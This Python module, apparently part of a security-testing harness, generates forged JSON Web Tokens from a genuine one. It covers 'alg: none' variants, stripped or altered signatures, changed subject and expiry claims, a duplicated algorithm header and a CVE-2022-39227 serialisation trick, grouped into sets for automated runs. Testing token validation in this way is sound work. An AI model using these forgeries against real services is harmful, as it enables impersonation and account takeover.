"""JSON Web Tokens that no instance signed, made from one that it did: what is known to pass.

RFC 8725 tells of most of them. What a forged token claims is what the genuine one claims, unless a
forgery is about that: so nothing but the signature is in the way. No address in one leads anywhere.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from harness.core import base64url
from harness.core.outcomes import Excluded
from harness.generation import forged_keys
from harness.generation.forged_keys import encoded, required_jwt

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

_YEAR, _HOUR = 31_536_000, 3_600


def unsigned(token: str) -> str:
    """Claim ``alg: none`` and leave the signature out."""
    return _unsigned(token, {"alg": "none"})


def unsigned_in_capitals(token: str) -> str:
    """Claim it in another spelling."""
    return _unsigned(token, {"alg": "NONE"})


def unsigned_in_mixed_case(token: str) -> str:
    """Claim it in a third one."""
    return _unsigned(token, {"alg": "nOnE"})


def unsigned_in_title_case(token: str) -> str:
    """Claim it in a fourth one."""
    return _unsigned(token, {"alg": "None"})


def unsigned_among_blanks(token: str) -> str:
    """Claim it with blanks around."""
    return _unsigned(token, {"alg": " none "})


def unsigned_with_signature(token: str) -> str:
    """Claim ``alg: none``, and keep the signature."""
    return _unsigned(token, {"alg": "none"}) + required_jwt(token).signature


def algorithm_null(token: str) -> str:
    """Claim no algorithm, and leave the signature out."""
    return _unsigned(token, {"alg": None})


def algorithm_empty(token: str) -> str:
    """Claim one without a name."""
    return _unsigned(token, {"alg": ""})


def algorithm_left_out(token: str) -> str:
    """Say nothing of algorithms, and leave the signature out."""
    jwt = required_jwt(token)
    header = {name: value for name, value in jwt.header.items() if name != "alg"}
    return f"{encoded(header)}.{encoded(jwt.claims)}."


def algorithm_named_twice(token: str) -> str:
    """Claim the algorithm of the genuine token, and none: of two names, readers choose."""
    jwt = required_jwt(token)
    header = f'{{"alg":{json.dumps(jwt.header.get("alg"))},"typ":"JWT","alg":"none"}}'
    return f"{base64url.encode(header.encode())}.{encoded(jwt.claims)}."


def extension_that_is_critical(token: str) -> str:
    """Claim that the parts are not encoded, as RFC 7797 has it, and leave the signature out."""
    return _unsigned(token, {"alg": "none", "crit": ["b64"], "b64": False})


def signature_left_out(token: str) -> str:
    """Leave the signature out, and claim what the token claims."""
    required_jwt(token)
    return token.rpartition(".")[0] + "."


def two_parts(token: str) -> str:
    """Leave the signature out, and the dot before it."""
    required_jwt(token)
    return token.rpartition(".")[0]


def claims_alone(token: str) -> str:
    """Leave out what stands before and behind the claims."""
    required_jwt(token)
    return f".{token.split('.')[1]}."


def header_left_out(token: str) -> str:
    """Leave out what stands before the claims."""
    required_jwt(token)
    return "." + token.partition(".")[2]


def claims_left_out(token: str) -> str:
    """Leave the claims out, and keep the signature."""
    jwt = required_jwt(token)
    return f"{token.partition('.')[0]}..{jwt.signature}"


def with_a_fourth_part(token: str) -> str:
    """Put a part behind the signature."""
    required_jwt(token)
    return f"{token}.AAAA"


def signature_cut(token: str) -> str:
    """Keep the first half of the signature."""
    said, signature = token.rpartition(".")[0], required_jwt(token).signature
    try:
        signed = base64url.decode(signature)
    except ValueError:
        raise Excluded("", "signatures of this instance are not in base64url") from None
    return f"{said}.{base64url.encode(signed[: len(signed) // 2])}"


def signature_of_zeros(token: str) -> str:
    """Sign with zeros, as many as there were bytes."""
    said, _, signature = token.rpartition(".")
    required_jwt(token)
    return f"{said}.{'A' * len(signature)}"


def signature_of_another(token: str, other: str) -> str:
    """Put the signature of another session under what this token says."""
    jwt = required_jwt(other)
    required_jwt(token)
    return f"{token.rpartition('.')[0]}.{jwt.signature}"


def changed_claim(token: str) -> str:
    """Claim to live on for a year, under the old signature."""
    ends = required_jwt(token).claims.get("exp")
    later = ends + _YEAR if isinstance(ends, int | float) else 4_102_444_800
    return _claiming(token, {"exp": later})


def another_subject(token: str) -> str:
    """Claim to be another user, under the old signature."""
    claimed = required_jwt(token).claims
    named = [each for each in ("sub", "user_id", "uid", "id", "email") if each in claimed]
    return _claiming(token, dict.fromkeys(named or ["sub"], "1"))


def expiry_left_out(token: str) -> str:
    """Claim no end, under the old signature."""
    jwt = required_jwt(token)
    claims = {name: value for name, value in jwt.claims.items() if name != "exp"}
    return f"{encoded(jwt.header)}.{encoded(claims)}.{jwt.signature}"


def expiry_null(token: str) -> str:
    """Claim an end that is none, under the old signature."""
    return _claiming(token, {"exp": None})


def expiry_as_text(token: str) -> str:
    """Claim an end in words, under the old signature."""
    return _claiming(token, {"exp": "never"})


def expired(token: str) -> str:
    """Claim to have expired an hour ago, under the old signature.

    Who refreshes expired tokens reads them without a look at their end, and may look at no more.
    """
    return _claiming(token, _an_hour_ago(token))


def expired_and_unsigned(token: str) -> str:
    """Claim that, and ``alg: none``."""
    jwt = required_jwt(token)
    claims = jwt.claims | _an_hour_ago(token)
    return f"{encoded(jwt.header | {'alg': 'none'})}.{encoded(claims)}."


def json_serialisation(token: str) -> str:
    """Hold the genuine token as JSON, and other claims beside it (CVE-2022-39227)."""
    claims = encoded(required_jwt(token).claims | {"iss": "own"})
    header, payload, signature = token.split(".")[:3]
    said = {"protected": header, "payload": payload, "signature": signature}
    return json.dumps({f"  {header}.{claims}.": "", **said})


SHORT: tuple[Callable[[str], str], ...] = (unsigned, signature_left_out, changed_claim)
"""What is tried where all would be too many requests, or below account effects."""
FORGERIES: tuple[Callable[[str], str], ...] = (
    unsigned_in_mixed_case,
    unsigned_with_signature,
    with_a_fourth_part,
    two_parts,
    forged_keys.resigned,
    forged_keys.signed_with_a_guess,
    forged_keys.embedded_key,
)
"""Those that every run tries beside them, wherever there is room."""
OF_GATE: tuple[Callable[[str], str], ...] = (
    algorithm_left_out,
    signature_cut,
    forged_keys.embedded_public_key,
    forged_keys.key_of_an_empty_file,
    forged_keys.key_of_a_query,
    forged_keys.signature_of_nothing,
)
"""Those that one protected operation is sent as well: refreshing reads tokens as it does."""
OF_REFRESH: tuple[Callable[[str], str], ...] = (expired, expired_and_unsigned)
"""Those that only refreshing is told from others by."""
TURNS: tuple[Callable[[str], str], ...] = (
    unsigned_in_capitals,
    unsigned_in_title_case,
    unsigned_among_blanks,
    algorithm_null,
    algorithm_empty,
    algorithm_named_twice,
    extension_that_is_critical,
    claims_alone,
    header_left_out,
    claims_left_out,
    signature_of_zeros,
    another_subject,
    expiry_left_out,
    expiry_null,
    expiry_as_text,
    forged_keys.signed_with_nothing,
    forged_keys.signed_with_a_word,
    forged_keys.signed_with_nothing_at_length,
    forged_keys.embedded_curve_key,
    forged_keys.key_elsewhere,
    forged_keys.certificate_elsewhere,
    forged_keys.key_of_a_known_file,
    forged_keys.key_without_a_name,
    forged_keys.signature_of_nothing_in_asn1,
    json_serialisation,
)
"""Those that runs take by turns. All need a JWT; Excluded where tokens are opaque."""


def _an_hour_ago(token: str) -> dict[str, object]:
    """Claim to have begun and ended so much earlier that the end was an hour ago."""
    claims = required_jwt(token).claims
    told = {name: claims.get(name) for name in ("exp", "iat", "nbf")}
    times = {name: at for name, at in told.items() if isinstance(at, int | float)}
    is_told = {"exp", "iat"} <= times.keys()
    by = _HOUR + (times["exp"] - times["iat"] if is_told else 8 * _HOUR)
    return {name: at - by for name, at in times.items()} or {"exp": 1_000_000_000}


def _claiming(token: str, claims: Mapping[str, object]) -> str:
    """Claim something else, under the old signature."""
    jwt = required_jwt(token)
    return f"{encoded(jwt.header)}.{encoded({**jwt.claims, **claims})}.{jwt.signature}"


def _unsigned(token: str, header: Mapping[str, object]) -> str:
    jwt = required_jwt(token)
    return f"{encoded({**jwt.header, **header})}.{encoded(jwt.claims)}."
